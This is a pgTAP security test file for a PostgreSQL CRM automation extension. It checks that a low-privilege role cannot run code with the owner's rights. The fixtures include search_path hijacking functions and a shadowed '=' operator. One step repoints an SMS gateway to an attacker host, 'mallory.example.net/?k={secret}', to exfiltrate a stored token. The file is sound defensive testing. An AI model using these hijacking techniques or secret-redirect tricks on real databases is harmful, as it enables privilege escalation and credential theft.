-- The trust boundary: automation acts as the extension's owner, and a role
-- holding only crm_user must never get code of its own run with the owner's
-- rights.  Mallory owns a schema, puts an operator (bigint = bigint) and
-- functions (lower, now, current_setting, nullif-like helpers) in it that
-- record who runs them, puts that schema first in her search_path, and then
-- does what an application does: moves a deal into a stage with robots,
-- records an incoming call (triggers, the exceptions list), changes a date
-- a delayed robot follows.  Every piece of automation must still work, and
-- her code may run only as herself.
BEGIN;
CREATE EXTENSION crm_automation;
SELECT plan(28);

INSERT INTO crm.department (id, name) VALUES (1, 'Sales');
INSERT INTO crm.user (id, name, email, department_id) VALUES (1, 'Mia', 'mia@example.com', 1);

CREATE ROLE mallory_sec NOLOGIN;
GRANT crm_user TO mallory_sec;
CREATE SCHEMA evil AUTHORIZATION mallory_sec;
CREATE TABLE evil.pwned (who text, what text);
ALTER TABLE evil.pwned OWNER TO mallory_sec;
GRANT INSERT, SELECT ON evil.pwned TO PUBLIC;
GRANT USAGE ON SCHEMA evil TO PUBLIC;

SET ROLE mallory_sec;
CREATE FUNCTION evil.eq(bigint, bigint) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
	INSERT INTO evil.pwned VALUES (current_user, 'operator =');
	RETURN $1 OPERATOR(pg_catalog.=) $2;
END $$;
CREATE OPERATOR evil.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = evil.eq,
	COMMUTATOR = OPERATOR(evil.=));
CREATE FUNCTION evil.lower(text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
	INSERT INTO evil.pwned VALUES (current_user, 'lower');
	RETURN pg_catalog.lower($1);
END $$;
CREATE FUNCTION evil.now() RETURNS timestamptz LANGUAGE plpgsql AS $$
BEGIN
	INSERT INTO evil.pwned VALUES (current_user, 'now');
	RETURN pg_catalog.now();
END $$;
CREATE FUNCTION evil.current_setting(text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
	INSERT INTO evil.pwned VALUES (current_user, 'current_setting');
	RETURN pg_catalog.current_setting($1);
END $$;
CREATE FUNCTION evil.jsonb_build_object(VARIADIC text[]) RETURNS jsonb LANGUAGE plpgsql AS $$
BEGIN
	INSERT INTO evil.pwned VALUES (current_user, 'jsonb_build_object');
	RETURN '{}';
END $$;
RESET ROLE;

-- The shadowing works for Mallory's own statements: the probe is sound.
SET ROLE mallory_sec;
SET search_path = evil, pg_catalog;
SELECT 1::bigint = 1::bigint AS probe \gset
RESET search_path;
RESET ROLE;
SELECT ok(:'probe'::boolean, 'her operator answers her own comparisons');
SELECT is((SELECT count(*) FROM evil.pwned WHERE who = 'mallory_sec'), 1::bigint,
	'and it ran as herself');
DELETE FROM evil.pwned;

-- Automation to trigger: robots on "preparation", a trigger on incoming
-- calls, a robot that follows the close date, an exceptions-list entry.
SELECT crm.add_robot(crm.stage('deal', 'preparation'), 'add_comment', '{"text": "Prepared {{title}}"}') IS NOT NULL AS r1;
SELECT crm.add_robot(crm.stage('deal', 'preparation'), 'notify', '{"text": "Deal {{title}}", "recipients": 1}') IS NOT NULL AS r2;
SELECT crm.add_robot(crm.stage('deal', 'preparation'), 'write_log', '{"text": "later"}',
	delay => '{"at": "close_date", "offset": "-1 day"}') IS NOT NULL AS r3;
SELECT crm.add_trigger(crm.stage('deal', 'executing'), 'incoming_call') IS NOT NULL AS t1;
INSERT INTO crm.exception_list (type, value) VALUES ('phone', '+33 6 00 00 00 00');
INSERT INTO crm.deal (id, title, responsible_id, close_date) VALUES (901, 'Shadow', 1, current_date + 10);
GRANT SELECT, INSERT, UPDATE ON evil.pwned TO crm_user;

-- 1. Robots: Mallory moves the deal with her path first.
SET ROLE mallory_sec;
SET search_path = evil, pg_catalog;
UPDATE crm.deal SET stage_id = crm.stage('deal', 'preparation') WHERE id OPERATOR(pg_catalog.=) 901;
RESET search_path;
RESET ROLE;
SELECT is((SELECT count(*) FROM crm.timeline_comment WHERE entity_id = 901 AND text = 'Prepared Shadow'), 1::bigint,
	'robots: the comment robot ran');
SELECT is((SELECT count(*) FROM crm.notification WHERE text = 'Deal Shadow'), 1::bigint,
	'robots: the notify robot ran');
SELECT is((SELECT count(*) FROM crm.job WHERE entity_id = 901 AND status = 'pending'), 1::bigint,
	'robots: the delayed robot is planned');
SELECT is((SELECT count(*) FROM evil.pwned WHERE who <> 'mallory_sec'), 0::bigint,
	'robots: none of her code ran as anyone but herself');

-- 2. Due dates: the job follows the close date she changes.
SELECT due_at AS due_before FROM crm.job WHERE entity_id = 901 AND status = 'pending' \gset
SET ROLE mallory_sec;
SET search_path = evil, pg_catalog;
UPDATE crm.deal SET close_date = close_date + 5 WHERE id OPERATOR(pg_catalog.=) 901;
RESET search_path;
RESET ROLE;
SELECT is((SELECT due_at - :'due_before'::timestamptz FROM crm.job WHERE entity_id = 901 AND status = 'pending'),
	interval '5 days', 'due dates: the job moved with the date');
SELECT is((SELECT count(*) FROM evil.pwned WHERE who <> 'mallory_sec'), 0::bigint,
	'due dates: none of her code ran as anyone but herself');

-- 3. Triggers and the exceptions list: an incoming call moves the deal; a
-- call from a listed number is not recorded.
SET ROLE mallory_sec;
SET search_path = evil, pg_catalog;
INSERT INTO crm.activity (entity_type, entity_id, type, direction, remote_address)
	VALUES ('deal', 901, 'call', 'incoming', '+33 6 11 11 11 11');
INSERT INTO crm.activity (entity_type, entity_id, type, direction, remote_address)
	VALUES ('deal', 901, 'call', 'incoming', '+33 6 00 00 00 00');
INSERT INTO crm.activity (entity_type, entity_id, type, direction, remote_address)
	VALUES ('deal', 901, 'email', 'incoming', 'SPAM@Example.org');
RESET search_path;
RESET ROLE;
SELECT is((SELECT stage_id FROM crm.deal WHERE id = 901), crm.stage('deal', 'executing'),
	'triggers: the incoming call moved the deal');
SELECT is((SELECT count(*) FROM crm.activity WHERE entity_id = 901), 2::bigint,
	'exceptions list: the listed number''s call was not recorded');
SELECT is((SELECT count(*) FROM evil.pwned WHERE who <> 'mallory_sec'), 0::bigint,
	'triggers and exceptions list: none of her code ran as anyone but herself');

-- 4. Jobs: the job runner with a poisoned path (as a worker whose path
-- was tampered with) runs the due job as automation.
UPDATE crm.job SET due_at = now() - interval '1 second' WHERE entity_id = 901 AND status = 'pending';
SET search_path = evil, pg_catalog;
SELECT crm.run_next_job() IS NOT NULL AS ran;
RESET search_path;
SELECT is((SELECT status FROM crm.job WHERE entity_id = 901 AND robot_id IS NOT NULL ORDER BY id DESC LIMIT 1), 'cancelled',
	'jobs: the moved deal''s job was cancelled when it left the stage');
SELECT is((SELECT count(*) FROM evil.pwned WHERE who <> 'mallory_sec'), 0::bigint,
	'jobs: none of her code ran as anyone but herself');

-- 5. Processes: an administrator with the same path starts one (the
-- activities act as automation), and its timer job resumes it.
GRANT crm_admin TO mallory_sec;
SET ROLE mallory_sec;
SET search_path = evil, pg_catalog;
SELECT crm.add_process_template('deal', 'Shadowed', $${
	"activities": [
		{"type": "add_comment", "text": "Process for {{title}}"},
		{"type": "delay", "for": "1 hour"},
		{"type": "write_log", "text": "resumed"}]}$$) AS tpl \gset
SELECT crm.start_process(:tpl, 901) AS inst \gset
RESET search_path;
RESET ROLE;
SELECT is((SELECT count(*) FROM crm.timeline_comment WHERE entity_id = 901 AND text = 'Process for Shadow'), 1::bigint,
	'processes: the activity ran');
UPDATE crm.job SET due_at = now() - interval '1 second' WHERE process_instance_id = :inst;
SET search_path = evil, pg_catalog;
SELECT crm.run_next_job() IS NOT NULL AS resumed;
RESET search_path;
SELECT is((SELECT status FROM crm.process_instance WHERE id = :inst), 'completed',
	'processes: the timer resumed the instance to its end');
SELECT is((SELECT count(*) FROM evil.pwned WHERE who <> 'mallory_sec'), 0::bigint,
	'processes: none of her code ran as anyone but herself');
REVOKE crm_admin FROM mallory_sec;

-- 6. Automation runs as a restricted operation: a robot's UPDATE that
-- reaches a table trigger creating a temporary table (which could shadow
-- crm's tables for the rest of the session) is refused, and the robot fails
-- alone (logged), the application's statement succeeds.
CREATE FUNCTION public.try_set_role() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
	IF current_setting('sectest.try_role', true) = 'on' AND current_user::text <> 'mallory_sec' THEN
		EXECUTE 'CREATE TEMP TABLE sectest_tmp (x int)';
	END IF;
	RETURN NEW;
END $$;
CREATE TRIGGER try_set_role BEFORE UPDATE ON crm.deal FOR EACH ROW EXECUTE FUNCTION public.try_set_role();
SELECT crm.add_robot(crm.stage('deal', 'final_invoice'), 'update_item', '{"fields": {"title": "touched"}}') IS NOT NULL AS r4;
SET sectest.try_role = 'off';
INSERT INTO crm.deal (id, title, responsible_id) VALUES (902, 'Restricted', 1);
SET sectest.try_role = 'on';
SET ROLE mallory_sec;
SELECT lives_ok($$UPDATE crm.deal SET stage_id = crm.stage('deal', 'final_invoice') WHERE id = 902$$,
	'restricted: the application''s statement succeeds');
RESET ROLE;
RESET sectest.try_role;
SELECT is((SELECT status FROM crm.robot_log WHERE entity_id = 902 AND action = 'update_item'), 'failed',
	'restricted: the robot that reached CREATE TEMP TABLE failed');
SELECT matches((SELECT error FROM crm.robot_log WHERE entity_id = 902 AND action = 'update_item'),
	'security-restricted operation', 'restricted: its error says why');
DROP TRIGGER try_set_role ON crm.deal;

-- 7. After automation the caller's own settings are back.
SET search_path = evil, pg_catalog;
UPDATE crm.deal SET stage_id = crm.stage('deal', 'preparation') WHERE id OPERATOR(pg_catalog.=) 902;
SELECT current_setting('search_path') AS path_after \gset
RESET search_path;
SELECT is(:'path_after'::text, 'evil, pg_catalog', 'the caller''s search_path is restored after robots ran');
SELECT is(current_user::text, session_user::text, 'and so is the caller''s identity');

-- 8. A provider's secret follows its URL: crm_admin may repoint a gateway,
-- but then the secret is gone and must be given again, so that
-- "?k={secret}" on a host of her own never receives it.
SELECT crm.add_provider('sms', 'gw', '{"url": "https://sms.example.com/send", "body": "{\"to\": \"{to}\", \"key\": \"{secret}\"}"}', 'tok') AS gw \gset
GRANT crm_admin TO mallory_sec;
SET ROLE mallory_sec;
UPDATE crm.provider SET config = jsonb_set(config, '{body}', '"{\"to\": \"{to}\", \"k\": \"{secret}\"}"') WHERE id = :gw;
RESET ROLE;
SELECT is((SELECT count(*) FROM crm.provider_secret WHERE provider_id = :gw), 1::bigint,
	'providers: a change on the same endpoint keeps the secret');
SET ROLE mallory_sec;
UPDATE crm.provider SET config = jsonb_set(config, '{url}', '"https://mallory.example.net/?k={secret}"') WHERE id = :gw;
RESET ROLE;
SELECT is((SELECT count(*) FROM crm.provider_secret WHERE provider_id = :gw), 0::bigint,
	'providers: a direct UPDATE to another host removes the secret');
SET ROLE mallory_sec;
SELECT crm.update_provider(:gw, config => '{"url": "https://sms2.example.com/send"}', secret => 'tok2');
RESET ROLE;
SELECT is((SELECT secret FROM crm.provider_secret WHERE provider_id = :gw), 'tok2',
	'providers: repointed with its secret given again, it has the new one');
REVOKE crm_admin FROM mallory_sec;

-- 9. Automation acts as the schema's owner of the moment: after ALTER
-- SCHEMA crm OWNER TO another role, the next robot acts as that role (the
-- owner is cached per backend and forgotten on the change).
CREATE ROLE owner2_sec SUPERUSER NOLOGIN;
CREATE TABLE public.acted_as (who text);
CREATE FUNCTION public.record_actor() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
	INSERT INTO public.acted_as VALUES (current_user);
	RETURN NEW;
END $$;
CREATE TRIGGER record_actor BEFORE INSERT ON crm.timeline_comment
	FOR EACH ROW EXECUTE FUNCTION public.record_actor();
INSERT INTO crm.deal (id, title, responsible_id) VALUES (903, 'Owner', 1);
UPDATE crm.deal SET stage_id = crm.stage('deal', 'preparation') WHERE id = 903;
ALTER SCHEMA crm OWNER TO owner2_sec;
UPDATE crm.deal SET stage_id = crm.stage('deal', 'new') WHERE id = 903;
UPDATE crm.deal SET stage_id = crm.stage('deal', 'preparation') WHERE id = 903;
SELECT is((SELECT string_agg(who, ',' ORDER BY ctid) FROM public.acted_as), session_user::text || ',owner2_sec',
	'robots act as the owner of schema crm, also after it changes');
ALTER SCHEMA crm OWNER TO CURRENT_USER;
DROP TRIGGER record_actor ON crm.timeline_comment;

-- 9b. Making a distributed installation (crm.distribute) and its helpers,
-- which run DDL on every node and write claim functions, are for the
-- owner (a superuser) alone.
SELECT is((SELECT count(*)::int FROM pg_proc p
			WHERE p.oid IN ('crm.distribute()'::regprocedure, 'crm._on_every_node(text)'::regprocedure,
							'crm._outbox_shard_claims()'::regprocedure)
			  AND (has_function_privilege('crm_admin', p.oid, 'EXECUTE')
				   OR has_function_privilege('crm_user', p.oid, 'EXECUTE')
				   OR has_function_privilege('public', p.oid, 'EXECUTE'))), 0,
	'crm.distribute and its helpers are executable by no role of the CRM');
SET ROLE crm_admin;
SELECT throws_ok($$SELECT * FROM crm.distribute()$$, '42501', NULL,
	'an admin may not distribute the installation');
RESET ROLE;

-- 10. CREATE EXTENSION does not adopt a crm schema that another role owns.
DROP EXTENSION crm_automation;
DROP SCHEMA IF EXISTS crm CASCADE;
CREATE SCHEMA crm AUTHORIZATION mallory_sec;
SELECT throws_ok($$CREATE EXTENSION crm_automation$$, '42501', NULL,
	'a crm schema owned by another role is refused');
DROP SCHEMA crm;

SELECT * FROM finish();
ROLLBACK;
